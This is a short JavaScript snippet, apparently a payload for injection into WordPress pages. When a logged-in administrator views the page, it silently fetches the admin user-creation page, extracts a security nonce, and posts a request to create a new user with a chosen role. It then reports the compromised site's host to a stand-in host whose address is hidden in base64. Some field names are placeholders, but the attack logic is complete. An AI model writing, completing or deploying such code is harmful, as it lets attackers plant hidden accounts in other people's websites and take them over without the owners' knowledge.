const base = location.origin + "/wp-admin/";
const once = "wp_hb_" + location.host;
(async () => {
  if (!document.querySelector("#wpadminbar") || sessionStorage[once]) return;
  sessionStorage[once] = 1;
  const page = await (await fetch(base + "PLACEHOLDER-new-user.php", { credentials: "include" })).text();
  const nonce = new DOMParser().parseFromString(page, "text/html").querySelector("#PLACEHOLDER_nonce")?.value;
  if (!nonce) return;
  const body = new URLSearchParams({ action: "PLACEHOLDER", PLACEHOLDER_nonce: nonce, user: "PLACEHOLDER", role: "PLACEHOLDER" });
  await fetch(base + "PLACEHOLDER-new-user.php", { method: "POST", body, credentials: "include" });
  navigator.sendBeacon(atob("aHR0cHM6Ly93cC1iZWFjb24uZXhhbXBsZS9u"), location.host);
})();
